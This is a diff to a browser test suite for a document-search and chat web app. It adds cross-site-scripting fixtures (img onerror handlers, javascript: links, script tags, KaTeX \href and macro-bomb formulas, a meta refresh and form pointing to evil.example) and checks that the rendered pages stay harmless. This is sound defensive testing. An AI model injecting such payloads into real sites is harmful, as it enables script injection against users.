@@ -8,6 +8,10 @@ from urllib.parse import quote
 
 import pytest
 
+from rag_platform.core.hits import Filters
+from rag_platform.operations.asking.sharing import Sharer
+from rag_platform.operations.grids.filling import fill_waiting
+from rag_platform.operations.grids.grid_making import documents_found, make_grid
 from rag_platform.operations.watching.looking import look_first
 from rag_platform.pipeline.stages import Pipeline
 from rag_platform.workspace import open_workspace
@@ -33,6 +37,14 @@ OWN = (
     "<meta http-equiv=refresh content='0;url=http://evil.example/'><form action=http://evil.example><input></form>",
     "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.owned=1>'>",
 )
+RICH = (
+    "| a<img src=x onerror=window.owned=1> | [b](javascript:window.owned=1) | n |\n|---|---|---|\n"
+    "| \u202e7 <script>window.owned=1</script> | $\\htmlData{a=b}{x_1}$ | 5 |\n"
+    "| `8` | $\\href{javascript:owned}{y_1}$ | 7 |\n\n"
+    "```<img/src=x/onerror=window.owned=1>\n<img src=x onerror=window.owned=1>\n```\n\n"
+    "$$\n\\includegraphics{x_1}\n$$\n\n\\(\\def\\a{\\a\\a}\\a\\) $\\rule{9999em}{9999em}_1$ $\\sqrt{x_1}$\n"
+)
+"""Tables, code and formulas that try the same."""
 SOME = (OWN[0], OWN[1], OWN[4], OWN[9], OWN[10])
 FILE_NAME = '<img src=x onerror="window.owned=1">[a](javascript:b) `c` .md'
 RESULT = "li.hit a.open"
@@ -67,6 +79,7 @@ def home(tmp_path_factory, model_folder):
     docs.mkdir()
     for number, text in enumerate(OWN):
         (docs / f"{number}.md").write_text(told(number, text), encoding="utf-8")
+    (docs / "rich.md").write_text(f"# Rich\n\n{RICH}\nThe zebra protocol has a table.\n")
     (docs / FILE_NAME).write_text("The zebra protocol demands that a file may have any name.\n")
     strings, inputs = naughty()
     lines = "\n\n".join(OWN) + "\n\n" + "\n\n".join(strings)
@@ -101,10 +114,14 @@ def home(tmp_path_factory, model_folder):
         workspace.chats.say(chat, "user", text)
         workspace.chats.say(chat, "assistant", f"{text} says the answer. [1] [?]")
         workspace.answerer.ask(f"Who wrote {text} about tungsten?")
+    chat = workspace.chats.begin("Rich <b>")
+    workspace.chats.say(chat, "user", "Show it.")
+    workspace.chats.say(chat, "assistant", RICH, workspace.answerer.ask(QUESTION).receipt_id)
     for text in SOME:
         watch_of(workspace, f"zebra protocol {text}", kind="search")
         answers = [workspace.answerer.ask(f"{asked} {text}").receipt_id for asked in (QUESTION, "Who wrote")]
         watch_of(workspace, f"{QUESTION} {text}", *answers)
+    grid_of(workspace)
     (home / "questions").mkdir()
     labelled = [
         {
@@ -122,6 +139,16 @@ def home(tmp_path_factory, model_folder):
     (docs / "broken <img src=x onerror=window.owned=1>.pdf").write_bytes(b"%PDF-1.4 broken")
     pipeline.sync_source("zoo")
     return home
+
+
+def grid_of(workspace):
+    """Ask some documents hostile questions, in a grid that is as hostile."""
+    filters = Filters(sources=("zoo",))
+    found = documents_found(workspace, "zebra protocol keeper", filters, 12, None)
+    named = [(f"{QUESTION} {text}", text) for text in SOME[:3]]
+    grid = make_grid(workspace, Sharer("", (), "test"), OWN[1], [(QUESTION, ""), *named], found)
+    workspace.grid_cells.want(grid, "", (), datetime.now(UTC))
+    fill_waiting(workspace, grid)
 
 
 def watch_of(workspace, question, *receipts, kind="question"):
@@ -157,7 +184,8 @@ ODD = r"""() => {
   const ours = '[data-testid="stHtml"], [data-testid="stMarkdownContainer"]';
   for (const place of document.querySelectorAll(ours)) {
     for (const one of place.querySelectorAll("svg, math, base, meta, object, embed, iframe, video, link"))
-      odd.push(one.outerHTML.slice(0, 200));
+      if (!one.matches(".formula > .katex *, .formula > .katex-display *")) // KaTeX's own
+        odd.push(one.outerHTML.slice(0, 200));
     for (const one of place.querySelectorAll("form, input")) // ours chooses dates, and leads to the page itself
       if (new URL(one.closest("form")?.getAttribute("action") ?? "none:", location).origin !== location.origin)
         odd.push(one.outerHTML.slice(0, 200));
@@ -223,6 +251,17 @@ def test_old_chats(tab, workspace):
     expect(tab.locator("h2.question").first).to_contain_text("<")
 
 
+def test_tables_code_and_formulas(tab, workspace):
+    chat = next(chat for chat in workspace.chats.of() if chat.title == "Rich <b>")
+    tab.goto(f"{tab.address}/?chat={chat.id}")
+    tab.locator(".formula .katex").first.wait_for()
+    harmless(tab)
+    expect(tab.locator(".answer pre")).to_have_text("<img src=x onerror=window.owned=1>")
+    tab.get_by_role("button", name="Draw a chart").click()
+    tab.locator(".stVegaLiteChart").wait_for()
+    harmless(tab)
+
+
 def test_search(tab):
     tab.goto(f"{tab.address}/search?q=zebra+protocol")
     tab.locator(RESULT).first.wait_for()
@@ -278,6 +317,23 @@ def test_watches(tab, workspace):
         tab.goto(f"{tab.address}/watches?watch={watch.id}")
         tab.locator("section.change").first.wait_for()
         harmless(tab)
+
+
+def test_grids(tab, workspace):
+    tab.goto(f"{tab.address}/grids")
+    tab.locator("ul.watches a").first.wait_for()
+    harmless(tab)
+    tab.locator("ul.watches a").first.click()
+    tab.locator(".grid td a.cite").first.wait_for()
+    harmless(tab)
+    tab.locator(".grid .marks a", has_text="…").first.click()
+    tab.get_by_role("dialog").locator(".answer").wait_for()
+    harmless(tab)
+    tab.get_by_role("dialog").get_by_role("button", name="Close").click()
+    tab.get_by_role("dialog").wait_for(state="detached")
+    tab.locator(".grid thead a").last.click()
+    tab.get_by_role("dialog").get_by_role("textbox").first.wait_for()
+    harmless(tab)
 
 
 @pytest.mark.parametrize("part", ["overview", "questions", "proposed", "versions"])
